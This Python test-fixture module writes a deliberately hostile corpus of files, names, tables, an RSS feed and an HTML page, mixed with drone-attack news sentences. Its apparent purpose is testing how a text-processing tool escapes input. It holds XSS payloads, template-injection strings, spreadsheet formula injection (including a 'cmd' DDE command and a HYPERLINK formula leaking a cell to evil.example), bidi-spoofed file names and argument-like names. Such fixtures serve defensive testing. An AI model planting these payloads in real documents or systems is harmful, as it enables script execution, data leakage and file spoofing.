"""A corpus of texts, names and tables that want to act: markup, scripts, links, formulae, template braces, bidi controls.

`write` makes it in a folder, for names as these can't stand in every checkout. Each text holds true strike sentences as
well, so that what it carries reaches every table, chart and page.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

SUM = "{{7*191}}"  # 1337 wherever a template engine takes data for a template
SCRIPT = "</script><script>alert(666)</script>"
IMAGE = "<img src=x onerror=alert(666)>"
QUOTES = "\"' onmouseover=alert(666) x='\""
FRAME = '<iframe srcdoc="<script>alert(666)</script>"></iframe>'
SVG = "<svg/onload=alert(666)><use href=//evil.example/x#a></svg>"
LINK = "[click](javascript:alert(666)) ![](//evil.example/a.png) <a href=javascript:alert(666)>x</a>"
MATH = "$\\href{javascript:alert(666)}{x}$ \\(\\style{x}{y}\\) $$"
COMMENT = "<!-- --!> ]]> <![CDATA[ \u2028 \u2029 "
BIDI = "\u202eesrever\u202c \u2066isolate\u2069"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
ALL = " ".join(
    (SCRIPT, IMAGE, QUOTES, FRAME, SVG, LINK, MATH, COMMENT, BIDI, SUM, "{region} {} {1} %s %(x)s ${x} {% raw %}")
)
FORMULAE = (FORMULA, COMMAND, "+1+1", "-2+3", "\t=1+1", "\r=1+1", "\n=1+1", "=1+1")

NIGHT = "Russia launched {a} drones at Ukraine overnight, Ukraine's air force said on January {d}, 2025. It said {b} of them were shot down and {c} were lost from radar."
MORE = (
    "The governor of {p} said 3 missiles hit {p}.",
    "{p} spokesman Bob{p} Smith said 5 Shahed {p} drones were intercepted over Kyiv {p}.",
    "According to {p} Ministry, Ukraine fired 7 {p} missiles at the Bryansk region; all 7 were destroyed.",
    "President Donald Trump {p} and Vladimir Putin {p} spoke; {p} Zelensky said so.",
)
UKRAINIAN = "У ніч на {d} січня 2025 року противник атакував {a} ударними БпЛА {p}. Станом на 09:00 збито {b} ворожих БпЛА, {c} імітаторів {p} локаційно втрачені."
NAMES = (
    "<img src=x onerror=alert(666)>.txt",
    "{region} {{7*191}} {} {1} %s.txt",
    "-rf --out=x.txt",
    "a b \"q\" 'x'.txt",
    "line\nbreak.txt",
    "=1+1.txt",
    "@SUM(1).txt",
    "javascript:alert(666).txt",
    "$\\href{javascript:alert(666)}{x}$.txt",
    "</title><script>alert(666)<script>.txt".replace("/", "\u2215"),
    "\u202etxt.exe.txt",
    "\U0001f4a3 наліт.txt",
)
RAW_NAME = b"raw \xff\xfe name.txt"

PACK = r"""
[[actors]]
id = "hostile-1"
name = "Bob<img src=x onerror=alert(666)> Smith"
kind = "person"
forms = ["Bob Smith", "Bob<img src=x onerror=alert(666)> Smith"]
surnames = ["Smith"]
"""


def _night(d: int, extra: str) -> str:
    lines = [NIGHT.format(a=40 + d, b=20 + d, c=10, d=d), *(line.format(p=extra) for line in MORE)]
    return "\n\n".join(lines)


def write(folder: Path) -> Path:
    """The corpus in `folder`/texts, with pack.toml and corrections.csv beside it; returns `folder`."""
    texts = folder / "texts"
    texts.mkdir(parents=True)
    for d, name in enumerate(NAMES, 1):
        text = f"{ALL if d % 2 else FORMULAE[d % len(FORMULAE)]}\n\n{_night(d, ALL if d % 3 == 0 else IMAGE)}\n"
        _put(os.fsencode(texts) + b"/" + name.encode(), text)
    _put(os.fsencode(texts) + b"/" + RAW_NAME, _night(14, SCRIPT))
    rows = []
    for k, formula in enumerate((*FORMULAE, ALL, SCRIPT, MATH, BIDI), 1):
        rows.append(
            {
                "id": f"{formula}{k}",
                "text": _night(k, formula) if k % 2 else UKRAINIAN.format(a=50 + k, b=30 + k, c=9, d=k, p=formula),
                "title": f"{formula} {IMAGE}",
                "outlet": formula,
                "url": ("javascript:alert(666)", "data:text/html,<script>alert(666)</script>", "https://ok.example/" + QUOTES, " \tjavascript:alert(666)", "JaVaScRiPt:alert(666)", "//evil.example/")[k % 6],
                "date": f"2025-01-{k:02d}",
                "place": f"{formula}{SVG}",
                f"{FORMULA}{SCRIPT}": formula,
                f"meta {IMAGE}": ALL,
                "byline": ALL,
            }
        )  # fmt: skip
    (texts / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    out = io.StringIO()
    table = csv.DictWriter(out, list(rows[0]))
    table.writeheader()
    table.writerows({**row, "text": row["text"] + " Later."} for row in rows)
    (texts / "rows.csv").write_text(out.getvalue(), encoding="utf-8", newline="")
    items = "".join(
        f"<item><title>&lt;script&gt;alert(666)&lt;/script&gt; night {d}</title><link>{link}</link>"
        f"<description><![CDATA[<p onclick=alert(666)>{_night(d, 'x')}<script>alert(666)</script></p>]]></description>"
        f"<pubDate>Wed, {d} Jan 2025 08:00:00 GMT</pubDate></item>"
        for d, link in ((15, "javascript:alert(666)"), (22, "data:text/html,x"), (29, "https://ok.example/a"))
    )
    (texts / "feed.xml").write_text(
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>&lt;b onclick=alert(666)&gt;Feed</title>{items}</channel></rss>',
        encoding="utf-8",
    )
    (texts / "page.html").write_text(
        f'<html><head><title>"&gt;<script>alert(666)</script>Title {SUM}</title>'
        '<meta property="og:url" content="javascript:alert(666)"><meta property="article:published_time" content="2025-01-20">'
        f"<script>alert(666)</script></head><body onload=alert(666)><h1>{IMAGE}Night of drones</h1><p>{_night(20, '&lt;b&gt;')}</p>"
        f"{FRAME}<p>{ALL}</p><a href='javascript:alert(666)'>more</a></body></html>",
        encoding="utf-8",
    )
    (texts / "sources.csv").write_text(
        "file,collected,outlet,url,licence,note\n"
        + "".join(
            ",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\n"
            for row in (
                ("*.txt", "2025-03-01", FORMULA + IMAGE, "javascript:alert(666)", "CC BY 4.0", ALL),
                ("page.html", "2025-03-01", ALL, "data:text/html,x", "CC BY 4.0 " + SCRIPT, FORMULA),
            )
        ),
        encoding="utf-8",
    )
    (folder / "pack.toml").write_text(PACK, encoding="utf-8")
    quote = "Ukraine's air force said on January 9, 2025"
    corrections = [
        ("set_party", "javascript:alert(666).txt", "48 drones", "", f"{IMAGE}party", FORMULA, ALL, "2025-02-01"),
        ("reject", FORMULA, quote + ALL, "", "", ALL, FORMULA, "2025-02-01"),
        ("edit", "page.html", "60 drones", "claimed_by", ALL, ALL, ALL, ALL),
    ]
    with open(folder / "corrections.csv", "w", encoding="utf-8", newline="") as file:
        lines = csv.writer(file)
        lines.writerow(("action", "source", "quote", "field", "value", "reason", "who", "date"))
        lines.writerows(corrections)
    return folder


def _put(path: bytes, text: str) -> None:
    try:
        with open(path, "w", encoding="utf-8", newline="") as file:
            file.write(text)
    except (OSError, ValueError):  # a system that allows no such name
        return
